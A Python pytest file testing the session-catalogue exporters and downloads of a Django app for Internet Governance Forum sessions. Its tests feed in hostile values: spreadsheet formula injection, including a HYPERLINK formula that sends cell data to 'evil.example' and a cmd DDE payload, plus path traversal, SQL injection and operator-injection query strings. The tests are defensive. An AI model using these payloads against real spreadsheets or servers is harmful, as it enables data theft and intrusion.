"""Downloads of the session list and the export_sessions command (sessions/open_data/exporters/).

The exports are in the import format of DESIGN.md: exporting the whole catalogue and
importing the file into an empty database gives the same catalogue.
"""

import csv
import datetime
import io
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.db.models import Prefetch
from django.http import StreamingHttpResponse

from sessions.importing import KNOWN_FIELDS, Record, import_sessions, read_records
from sessions.importing.records import MEETING_FIELDS
from sessions.models import (
    Document,
    Meeting,
    Participant,
    Session,
    SessionType,
    Speaker,
    Tag,
    Topic,
    Venue,
)
from sessions.open_data.exporters import (
    EXPORT_FIELDS,
    MEETING_EXPORT_FIELDS,
    CsvExporter,
    JsonExporter,
    JsonLinesExporter,
    export_filename,
    plain_text,
    session_record,
    sessions_for_export,
)
from tests.factories import (
    DocumentFactory,
    MeetingFactory,
    ParticipantFactory,
    RecordingFactory,
    SessionFactory,
    SessionTypeFactory,
    SpeakerFactory,
    StrategyFactory,
    TagFactory,
    TopicFactory,
    TranscriptFactory,
    VenueFactory,
)
from tests.page_parsing import link_texts
from tests.sessions.bulk import bulk_sessions

# Its sessions belong to the annual IGFs, as the catalogue's do.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("annual_meetings")]


@pytest.fixture
def every_field():
    """Sessions that between them use every field of the import format, and a draft."""
    mexico = StrategyFactory(name="National Digital Strategy", slug="mexico-nds")
    kenya = StrategyFactory(name="Digital Economy Blueprint", slug="kenya-deb")
    joao_pessoa = VenueFactory(city="João Pessoa", country="Brazil", time_zone="America/Fortaleza")
    online = VenueFactory(city="Online", country="", time_zone="UTC")
    workshop = SessionTypeFactory(name="Workshop")
    security = TopicFactory(name="Cybersecurity and Trust")
    draft = SessionFactory(
        key="ws-draft",
        title="A draft; not public yet",
        date=datetime.date(2015, 11, 13),
        venue=joao_pessoa,
        status=Session.Status.DRAFT,
        description="",
        views=0,
    )
    online_forum = SessionFactory(
        key="of-online",
        title="Open Forum held online",
        type=SessionTypeFactory(name="Open Forum"),
        date=datetime.date(2020, 11, 2),
        start_time=datetime.time(14, 0),
        venue=online,
        description="",
        views=7,
        tags=[TagFactory(name="Youth")],
    )
    seed = SessionFactory(
        key="ws-mexico",
        title="Mexico: The National Digital Strategy and the MSH model",
        date=datetime.date(2015, 11, 12),
        start_time=datetime.time(9, 0),
        end_time=datetime.time(10, 30),
        type=workshop,
        topic=security,
        venue=joao_pessoa,
        description=(
            '<p>Mexico\'s strategy: "5 objectives", 5 enablers; <a href="https://example.org/">'
            "more</a>.</p><ul><li>Connectivity</li><li>Open data</li></ul>"
        ),
        url="https://www.intgovforum.org/en/content/igf-2015-ws-mexico",
        views=1127,
        strategies=[mexico, kenya],
        related=[online_forum, draft],
        tags=[TagFactory(name="IPv6"), TagFactory(name="Open data")],
    )
    minister = SpeakerFactory(
        name="Yolanda Martínez",
        organisation="Government of Mexico",
        stakeholder_group=Speaker.StakeholderGroup.GOVERNMENT,
    )
    ParticipantFactory(session=seed, speaker=minister, role=Participant.Role.ORGANISER, order=0)
    ParticipantFactory(
        session=seed,
        speaker=SpeakerFactory(
            name="Ana Silva",
            organisation="NIC.br",
            stakeholder_group=Speaker.StakeholderGroup.TECHNICAL_COMMUNITY,
        ),
        role=Participant.Role.SPEAKER,
        order=1,
    )
    ParticipantFactory(session=seed, speaker=minister, role=Participant.Role.MODERATOR, order=2)
    ParticipantFactory(
        session=draft,
        speaker=SpeakerFactory(name="Kwame Mensah", organisation="", stakeholder_group=""),
        role=Participant.Role.RAPPORTEUR,
        order=0,
    )
    TranscriptFactory(
        session=seed, text="Good morning.\n\nWelcome to the workshop, “everyone”; let us begin."
    )
    RecordingFactory(
        session=seed,
        url="https://www.youtube.com/watch?v=Qm4fT8kLr2w",
        title="Floor",
        length=datetime.timedelta(hours=1, minutes=29, seconds=40),
        order=0,
    )
    RecordingFactory(
        session=seed, url="https://www.youtube.com/watch?v=Zp7cN1xVd0s", language="es", order=1
    )
    DocumentFactory(
        session=seed,
        url="https://www.intgovforum.org/en/filedepot_download/382/25211",
        title="Workshop proposal",
        kind=Document.Kind.PROPOSAL,
    )
    # Two sessions of the same title: their slugs tell them apart in creation order.
    for number in range(2):
        SessionFactory(
            key=f"ws-open-data-{number}",
            title="Open data",
            date=datetime.date(2015, 11, 10),
            type=workshop,
            venue=joao_pessoa,
            related=[seed],
            description="<p>Ørsted, Lillestrøm — 日本語 &amp; «quotes»</p>",
        )
    return {"seed": seed, "online": online_forum, "draft": draft}


def catalogue() -> dict[str, dict]:
    """Every session by key, with every field and what it links to, as values to compare.

    Any concrete field of Session is included, so that a field added to the model and
    left out of the export makes the round trip fail. Left out: the database ids, the
    times the rows were written, and the search vectors and stakeholder groups, which
    are the database's own (worked out from the rest); and the documents uploaded in the
    admin, which no import writes.
    """
    skipped = {
        "id",
        "created_at",
        "updated_at",
        "published_at",
        "search_vector",
        "rank_vector",
        "stakeholder_groups",
    }
    fields = [field for field in Session._meta.concrete_fields if field.name not in skipped]
    sessions = Session.objects.select_related("type", "topic", "meeting__venue").prefetch_related(
        "related",
        "strategies",
        "tags",
        "transcripts",
        "recordings",
        "documents",
        Prefetch("participants", Participant.objects.select_related("speaker")),
    )
    result = {}
    for session in sessions:
        values = {
            field.name: str(getattr(session, field.name))
            if field.is_relation
            else field.value_from_object(session)
            for field in fields
        }
        values.update(
            related=sorted(other.key for other in session.related.all()),
            strategies=sorted(strategy.slug for strategy in session.strategies.all()),
            speakers=[
                (
                    participant.speaker.name,
                    participant.speaker.organisation,
                    participant.speaker.stakeholder_group,
                    participant.role,
                )
                for participant in session.participants.all()  # in programme order
            ],
            tags=sorted(tag.name for tag in session.tags.all()),
            transcripts=[(t.language, t.text) for t in session.transcripts.all()],
            recordings=[(r.url, r.language, r.title, r.length) for r in session.recordings.all()],
            documents=[
                (d.url, d.title, d.kind, d.language) for d in session.documents.all() if d.url
            ],
        )
        result[session.key] = values
    return result


def empty_the_catalogue() -> None:
    """Delete every session and what only sessions use (and the meetings held at their
    venues, which the format does not carry); strategies stay, as the import refers to
    them by slug."""
    Session.objects.all().delete()
    for model in (SessionType, Topic, Meeting, Venue, Speaker, Tag):
        model.objects.all().delete()


def export(path) -> str:
    out = StringIO()
    call_command("export_sessions", str(path), stdout=out)
    return out.getvalue()


def streamed(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def all_list_titles(client, query: str) -> list[str]:
    """The titles the HTML list shows for `query`, over all its pages."""
    titles, page = [], 1
    while True:
        response = client.get(f"/sessions/?{query}&page={page}")
        titles += link_texts(response.content.decode(), "session-tile-title")
        if f"page={page + 1}" not in response.content.decode():
            return titles
        page += 1


# The round trip


@pytest.mark.parametrize("extension", ["json", "jsonl"])
def test_exporting_the_catalogue_and_importing_it_into_an_empty_one_gives_the_same(
    tmp_path, every_field, extension
):
    call_command("load_demo_data", stdout=StringIO(), stderr=StringIO())
    before = catalogue()
    speaker_count = Speaker.objects.filter(participations__isnull=False).distinct().count()
    path = tmp_path / f"catalogue.{extension}"
    assert f"Exported {len(before)} sessions" in export(path)

    empty_the_catalogue()
    assert not Session.objects.exists()
    out = StringIO()
    call_command("import_sessions", str(path), stdout=out, stderr=StringIO())

    assert f"{len(before)} created" in out.getvalue()
    after = catalogue()
    assert after.keys() == before.keys()
    for key in before:
        assert after[key] == before[key], key
    # Speakers and tags come back once each, not once per session.
    assert Speaker.objects.count() == speaker_count
    assert Tag.objects.count() == len({tag for s in before.values() for tag in s["tags"]})


def test_a_second_import_of_an_export_changes_nothing(tmp_path, every_field):
    path = tmp_path / "catalogue.json"
    export(path)
    result = import_sessions(records=read_records(path=path))
    assert result.ok, result.errors
    assert (result.created, result.updated, result.unchanged) == (0, 0, Session.objects.count())


def test_the_csv_round_trip_keeps_everything_but_the_details_of_speakers(tmp_path, every_field):
    """CSV names a speaker by name alone; recordings and documents it carries whole."""
    before = catalogue()
    path = tmp_path / "catalogue.csv"
    export(path)
    empty_the_catalogue()
    call_command("import_sessions", str(path), stdout=StringIO(), stderr=StringIO())

    after = catalogue()
    for values in (*before.values(), *after.values()):
        values["speakers"] = sorted({speaker[0] for speaker in values.pop("speakers")})
    assert after == before


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "speaker": "=1+1",
    "tags": ["+SUM(1+1)", "-2+3", "@SUM(1)"],
}


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote_and_read_back_as_given(
    tmp_path,
):
    session = SessionFactory(
        key="=cmd|' /C calc'!A0",
        title=FORMULAS["title"],
        topic=TopicFactory(name="'90s internet"),
        tags=[TagFactory(name=name) for name in FORMULAS["tags"]],
    )
    # A name only: CSV carries no more of a speaker.
    speaker = SpeakerFactory(name=FORMULAS["speaker"], organisation="", stakeholder_group="")
    ParticipantFactory(session=session, speaker=speaker)
    before = catalogue()
    path = tmp_path / "catalogue.csv"
    export(path)

    text = path.read_text(encoding="utf-8-sig")
    # Quoted, so that a spreadsheet splitting cells on ";" keeps "-2+3" in its cell.
    assert '"\'+SUM(1+1);-2+3;@SUM(1)"' in text
    [row] = csv_sessions(text)
    assert row["key"] == "'=cmd|' /C calc'!A0"
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["speakers"] == "'=1+1"
    assert row["tags"] == "'+SUM(1+1);-2+3;@SUM(1)"
    # A cell that starts with the mark itself gets one more, so it reads back as given.
    assert row["topic"] == "''90s internet"
    # No cell begins with what a spreadsheet runs.
    assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    empty_the_catalogue()
    call_command("import_sessions", str(path), stdout=StringIO(), stderr=StringIO())
    assert catalogue() == before


def test_export_fields_are_exactly_the_fields_the_importer_reads():
    assert set(EXPORT_FIELDS) == set(KNOWN_FIELDS)
    assert set(MEETING_EXPORT_FIELDS) == set(MEETING_FIELDS)


# One record


def test_a_record_carries_every_field_of_the_import_format(every_field):
    session = sessions_for_export(Session.objects.filter(key="ws-mexico"), include_drafts=True)
    record = session_record(session.get())
    assert list(record) == list(EXPORT_FIELDS)
    assert record == {
        "key": "ws-mexico",
        "title": "Mexico: The National Digital Strategy and the MSH model",
        "date": "2015-11-12",
        "start_time": "09:00",
        "end_time": "10:30",
        "type": "Workshop",
        "topic": "Cybersecurity and Trust",
        "venue": "João Pessoa, Brazil",
        "meeting": "igf-2015",
        "description": every_field["seed"].description,
        "status": "published",
        "views": 1127,
        "related": ["of-online", "ws-draft"],
        "strategies": ["kenya-deb", "mexico-nds"],
        "url": "https://www.intgovforum.org/en/content/igf-2015-ws-mexico",
        "speakers": [
            {
                "name": "Yolanda Martínez",
                "organisation": "Government of Mexico",
                "stakeholder": "government",
                "role": "organiser",
            },
            {
                "name": "Ana Silva",
                "organisation": "NIC.br",
                "stakeholder": "technical-community",
                "role": "speaker",
            },
            {
                "name": "Yolanda Martínez",
                "organisation": "Government of Mexico",
                "stakeholder": "government",
                "role": "moderator",
            },
        ],
        "tags": ["IPv6", "Open data"],
        "transcript": "Good morning.\n\nWelcome to the workshop, “everyone”; let us begin.",
        "recordings": [
            {
                "url": "https://www.youtube.com/watch?v=Qm4fT8kLr2w",
                "language": "en",
                "title": "Floor",
                "length": "01:29:40",
            },
            {"url": "https://www.youtube.com/watch?v=Zp7cN1xVd0s", "language": "es", "title": ""},
        ],
        "documents": [
            {
                "url": "https://www.intgovforum.org/en/filedepot_download/382/25211",
                "title": "Workshop proposal",
                "kind": "proposal",
                "language": "en",
            }
        ],
        "language": "en",
        "report": {"summary": "", "key_takeaways": "", "calls_to_action": ""},
    }


def test_a_public_record_links_to_published_sessions_only(every_field):
    session = sessions_for_export(Session.objects.filter(key="ws-mexico"), include_drafts=False)
    assert session_record(session.get())["related"] == ["of-online"]


def test_empty_fields_are_given_as_empty_text_so_an_import_clears_them(every_field):
    session = sessions_for_export(Session.objects.filter(key="ws-draft"), include_drafts=True)
    record = session_record(session.get())
    assert record["start_time"] == record["end_time"] == ""
    assert record["description"] == record["url"] == record["transcript"] == ""
    assert record["related"] == record["strategies"] == record["tags"] == []
    assert record["recordings"] == record["documents"] == []
    assert record["speakers"] == [
        {"name": "Kwame Mensah", "organisation": "", "stakeholder": "", "role": "rapporteur"}
    ]


def test_only_the_english_transcript_is_exported_as_the_import_reads_it_as_english():
    session = SessionFactory()
    TranscriptFactory(session=session, language="fr", text="Bonjour.")
    record = session_record(sessions_for_export(Session.objects.all(), include_drafts=True).get())
    assert record["transcript"] == ""
    TranscriptFactory(session=session, language="en", text="Hello.")
    record = session_record(sessions_for_export(Session.objects.all(), include_drafts=True).get())
    assert record["transcript"] == "Hello."


# The exporters


def exported(exporter_class, sessions=None, **options) -> str:
    exporter = exporter_class(sessions or Session.objects.order_by("pk"), **options)
    return "".join(exporter.chunks())


MEETING_ONLY_FIELDS = [name for name in MEETING_EXPORT_FIELDS if name not in EXPORT_FIELDS]


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def csv_sessions(text: str) -> list[dict]:
    """The rows of an exported CSV file that are sessions (its meetings come first)."""
    return [row for row in csv_rows(text) if row["record"] == "session"]


def test_json_exporter_writes_an_object_with_a_meetings_and_a_sessions_array(every_field):
    text = exported(JsonExporter)
    assert text.startswith('{"meetings": [\n')
    document = json.loads(text)
    assert [record["key"] for record in document["sessions"]] == list(
        Session.objects.order_by("pk").values_list("key", flat=True)
    )
    assert [meeting["key"] for meeting in document["meetings"]] == ["igf-2015", "igf-2020"]
    assert document["meetings"][0] == (
        {
            "key": "igf-2015",
            "name": "IGF 2015",
            "kind": "annual",
            "venue": "João Pessoa, Brazil",
            "start_date": "2015-11-10",
            "end_date": "2015-11-13",
            "number": 10,
            "theme": "",
            "website": "",
        }
    )


def test_only_the_meetings_of_the_sessions_exported_are_carried(every_field):
    other = MeetingFactory(
        name="EuroDIG 2019", kind="regional", start_date=datetime.date(2019, 6, 19)
    )
    SessionFactory(meeting=other, date=datetime.date(2019, 6, 19))
    document = json.loads(exported(JsonExporter, Session.objects.filter(meeting=other)))
    assert [meeting["key"] for meeting in document["meetings"]] == ["eurodig-2019"]
    assert document["meetings"][0]["number"] == ""  # none, as "" like every empty value


def test_json_exporter_of_nothing_is_an_empty_array():
    assert json.loads(exported(JsonExporter, Session.objects.none())) == {
        "meetings": [],
        "sessions": [],
    }


def test_json_lines_exporter_writes_one_meeting_then_one_session_a_line(every_field):
    lines = [json.loads(line) for line in exported(JsonLinesExporter).splitlines()]
    assert len(lines) == Session.objects.count() + 2
    assert [(line["record"], line["key"]) for line in lines[:2]] == [
        ("meeting", "igf-2015"),
        ("meeting", "igf-2020"),
    ]
    assert [line["key"] for line in lines[2:]] == list(
        Session.objects.order_by("pk").values_list("key", flat=True)
    )


def test_csv_exporter_writes_the_import_fields_and_joins_lists_with_semicolons(every_field):
    text = exported(CsvExporter, Session.objects.filter(key="ws-mexico"))
    assert text.startswith("\ufeff")
    meeting, session = csv_rows(text)
    assert list(session) == [
        "record",
        *(name for name in EXPORT_FIELDS if name != "report"),
        "report.summary",
        "report.key_takeaways",
        "report.calls_to_action",
        *MEETING_ONLY_FIELDS,
    ]
    assert (meeting["record"], meeting["key"], meeting["name"], meeting["title"]) == (
        "meeting",
        "igf-2015",
        "IGF 2015",
        "",
    )
    rows = [session]
    assert rows[0]["record"] == "session"
    assert rows[0]["name"] == ""
    assert rows[0]["strategies"] == "kenya-deb;mexico-nds"
    assert rows[0]["tags"] == "IPv6;Open data"
    assert rows[0]["speakers"] == "Yolanda Martínez;Ana Silva;Yolanda Martínez"
    assert rows[0]["views"] == "1127"
    assert rows[0]["transcript"].startswith("Good morning.\n\nWelcome")
    # Recordings with a title, a length or another language than English, and documents
    # (which have titles), as the JSON exports write them.
    assert [item["url"] for item in json.loads(rows[0]["recordings"])] == [
        "https://www.youtube.com/watch?v=Qm4fT8kLr2w",
        "https://www.youtube.com/watch?v=Zp7cN1xVd0s",
    ]
    assert json.loads(rows[0]["documents"])[0]["url"] == (
        "https://www.intgovforum.org/en/filedepot_download/382/25211"
    )


def test_csv_exporter_output_reads_back_through_the_importer(tmp_path, every_field):
    path = tmp_path / "export.csv"
    path.write_text(exported(CsvExporter, include_drafts=True), encoding="utf-8")
    records = read_records(path=path)
    assert [record.data["key"] for record in records if not record.is_meeting] == list(
        Session.objects.order_by("pk").values_list("key", flat=True)
    )
    assert [record.data["key"] for record in records if record.is_meeting] == [
        "igf-2015",
        "igf-2020",
    ]


def test_exporters_read_sessions_in_chunks_with_a_constant_number_of_queries_each(
    django_assert_num_queries,
):
    SessionFactory.create_batch(5)
    # Their meetings in one query; the sessions in one, fetched a chunk of two at a time;
    # each chunk then costs seven: related, strategies, participants, tags, transcripts,
    # recordings and documents.
    with django_assert_num_queries(1 + 1 + 3 * 7):
        document = json.loads(exported(JsonExporter, chunk_size=2))
    assert len(document["sessions"]) == 5


def test_exporter_counts_the_sessions_it_wrote(every_field):
    exporter = JsonLinesExporter(Session.objects.all())
    assert exporter.write(StringIO()) == Session.objects.count()


def test_plain_text_of_a_description_keeps_paragraphs_and_list_items_apart():
    description = (
        "<p>First &amp; <strong>foremost</strong>.</p><p>Then:</p>"
        "<ul><li>one</li><li>two</li></ul><p>Line<br>break</p>"
    )
    assert plain_text(description) == "First & foremost.\n\nThen:\n\n- one\n- two\n\nLine\nbreak"


@pytest.mark.parametrize(
    ("filters", "name"),
    [
        ({}, "igf-sessions.csv"),
        ({"year": "2015", "q": ""}, "igf-sessions-2015.csv"),
        ({"q": "Digital Strategy!"}, "igf-sessions-digital-strategy.csv"),
        ({"q": "«»"}, "igf-sessions.csv"),
        ({"q": "x" * 200}, f"igf-sessions-{'x' * 40}.csv"),
    ],
)
def test_export_filename_names_the_filters_in_use(filters, name):
    assert export_filename(filters, "csv") == name


def test_export_filename_uses_the_slug_of_a_chosen_object():
    venue = VenueFactory(city="João Pessoa", country="Brazil")
    assert export_filename({"venue": venue}, "json") == f"igf-sessions-{venue.slug}.json"


# The downloads of the list


@pytest.fixture
def listed():
    """A catalogue of 25 published sessions, more than a page of the list, and a draft."""
    rio = VenueFactory(city="Rio de Janeiro", country="Brazil")
    joao_pessoa = VenueFactory(city="João Pessoa", country="Brazil")
    workshop, forum = SessionTypeFactory(name="Workshop"), SessionTypeFactory(name="Open Forum")
    for number in range(25):
        SessionFactory(
            title=f"Listed session {number:02d}",
            date=datetime.date(2007 + 8 * (number % 2), 11, 12),
            venue=(rio, joao_pessoa)[number % 2],
            type=(workshop, forum)[number % 3 == 0],
            views=number,
        )
    SessionFactory(title="Listed draft", status=Session.Status.DRAFT, venue=rio)


@pytest.mark.parametrize(
    "query",
    [
        "",
        "year=2015",
        "type=open-forum",
        "type=workshop&year=2007&sort=title",
        "sort=-views",
        "q=session+1",
        "venue=rio-de-janeiro-brazil&sort=date",
        "year=1999&type=nothing",  # not valid: ignored, as on the page
    ],
)
@pytest.mark.parametrize("extension", ["csv", "json"])
def test_a_download_holds_exactly_the_sessions_of_the_list_in_its_order(
    client, listed, query, extension
):
    response = client.get(f"/sessions/export.{extension}?{query}&page=2")
    assert response.status_code == 200
    content = streamed(response).decode("utf-8-sig")
    if extension == "json":
        titles = [record["title"] for record in json.loads(content)["sessions"]]
    else:
        titles = [row["title"] for row in csv_sessions(content)]
    assert titles == all_list_titles(client, query)
    assert "Listed draft" not in titles


def test_the_json_download_is_the_import_format_with_published_sessions_only(client, every_field):
    response = client.get("/sessions/export.json")
    document = json.loads(streamed(response))
    keys = {record["key"] for record in document["sessions"]}
    assert "ws-draft" not in keys
    assert keys == set(Session.objects.published().values_list("key", flat=True))
    assert all(list(record) == list(EXPORT_FIELDS) for record in document["sessions"])
    assert all(record["status"] == "published" for record in document["sessions"])
    (seed,) = (record for record in document["sessions"] if record["key"] == "ws-mexico")
    assert seed["related"] == ["of-online"]  # the draft is not named


def test_the_public_download_imports_cleanly_into_an_empty_catalogue(client, every_field):
    content = streamed(client.get("/sessions/export.json")).decode()
    published = {k: v for k, v in catalogue().items() if v["status"] == "published"}
    empty_the_catalogue()
    document = json.loads(content)
    records = [
        *(
            Record(f"meetings index {index}", data, "meeting")
            for index, data in enumerate(document["meetings"])
        ),
        *(Record(f"index {index}", data) for index, data in enumerate(document["sessions"])),
    ]
    result = import_sessions(records=records)
    assert result.ok, result.errors
    assert not result.warnings
    after = catalogue()
    for values in published.values():
        values["related"] = [key for key in values["related"] if key in published]
    # The download lists the newest first, so sessions of the same title are created in
    # the other order: their slugs change places. The command keeps the creation order.
    for values in (*published.values(), *after.values()):
        del values["slug"]
    assert after == published


@pytest.mark.parametrize(
    ("path", "content_type", "filename"),
    [
        ("/sessions/export.csv", "text/csv; charset=utf-8", "igf-sessions.csv"),
        ("/sessions/export.json", "application/json", "igf-sessions.json"),
        (
            "/sessions/export.csv?year=2015&type=workshop",
            "text/csv; charset=utf-8",
            "igf-sessions-2015-workshop.csv",
        ),
        (
            "/sessions/export.json?type=nonexistent&year=2015",
            "application/json",
            "igf-sessions-2015.json",
        ),
    ],
)
def test_a_download_is_a_streamed_attachment_with_a_file_name(
    client, every_field, path, content_type, filename
):
    response = client.get(path)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    streamed(response)


def test_the_list_page_links_to_its_downloads_with_its_filters(client, listed):
    content = client.get("/sessions/?year=2015&sort=title&page=2").content.decode()
    for path in ("/sessions/export.csv", "/sessions/export.json", "/sessions/calendar.ics"):
        assert f'href="{path}?year=2015&amp;sort=title"' in content


@pytest.mark.parametrize("session_count", [1, 201])
@pytest.mark.parametrize("extension", ["csv", "json"])
def test_a_download_costs_a_constant_number_of_queries(
    client, django_assert_num_queries, mexico_strategy, session_count, extension
):
    sessions = bulk_sessions(session_count, linked=True, strategies=[mexico_strategy])
    # The catalogue version and the filter's years kept for it; the filter's type; the
    # sessions' meetings; the sessions; then related, strategies, participants with their
    # speakers, tags, transcripts, recordings and documents.
    with django_assert_num_queries(12):
        response = client.get(f"/sessions/export.{extension}?type=workshop")
        content = streamed(response).decode("utf-8-sig")
    assert all(session.key in content for session in sessions)


@pytest.mark.parametrize(
    "query",
    [
        "year=abc",
        "year=99999999999999999999",
        "venue=%00",
        "type=../../etc/passwd",
        "topic=%F0%9F%92%A9",
        "strategy='%3B+DROP+TABLE+catalogue_session%3B--",
        "q=%00",
        "q=" + "x" * 5000,
        "q=%22unbalanced&q=another",
        "sort=;&sort=-views",
        "page=-1",
        "year[]=2015&type[$ne]=x",
        "%ff%fe=%ff",
    ],
)
@pytest.mark.parametrize("path", ["/sessions/export.csv", "/sessions/export.json"])
def test_hostile_query_strings_never_break_a_download(client, every_field, path, query):
    response = client.get(f"{path}?{query}")
    assert response.status_code == 200
    content = streamed(response).decode("utf-8-sig")
    if path.endswith(".json"):
        json.loads(content)


# The command


def test_export_command_writes_every_session_drafts_included(tmp_path, every_field):
    path = tmp_path / "all.json"
    assert export(path) == f"Exported {Session.objects.count()} sessions to {path}.\n"
    records = json.loads(path.read_text(encoding="utf-8"))["sessions"]
    statuses = {record["key"]: record["status"] for record in records}
    assert statuses["ws-draft"] == "draft"
    assert len(statuses) == Session.objects.count()


@pytest.mark.parametrize("extension", ["json", "jsonl", "csv", "JSON"])
def test_export_command_chooses_the_format_from_the_extension(tmp_path, every_field, extension):
    path = tmp_path / f"all.{extension}"
    export(path)
    records = read_records(path=path)
    assert len([record for record in records if not record.is_meeting]) == Session.objects.count()
    assert [record.data["name"] for record in records if record.is_meeting] == [
        "IGF 2015",
        "IGF 2020",
    ]


@pytest.mark.parametrize("name", ["all.xlsx", "all"])
def test_export_command_refuses_an_unknown_kind_of_file(tmp_path, name):
    with pytest.raises(CommandError, match="use .json, .jsonl or .csv"):
        export(tmp_path / name)
    assert not (tmp_path / name).exists()


def test_export_command_says_when_the_file_cannot_be_written(tmp_path):
    with pytest.raises(CommandError, match="could not be written"):
        export(tmp_path / "no-such-folder" / "all.json")


def test_export_command_of_an_empty_catalogue_writes_an_empty_file(tmp_path):
    path = tmp_path / "none.json"
    assert "Exported 0 sessions" in export(path)
    assert json.loads(path.read_text()) == {"meetings": [], "sessions": []}


def test_a_stream_gathers_the_chunks_into_pieces_of_about_the_size_asked(every_field):
    exporter = JsonLinesExporter(Session.objects.order_by("pk"))
    pieces = list(exporter.stream(size=1))
    assert (
        len(pieces)
        == Session.objects.count()
        + Meeting.objects.filter(sessions__isnull=False).distinct().count()
    )
    whole = list(JsonLinesExporter(Session.objects.order_by("pk")).stream())
    assert len(whole) == 1
    assert "".join(pieces) == whole[0]
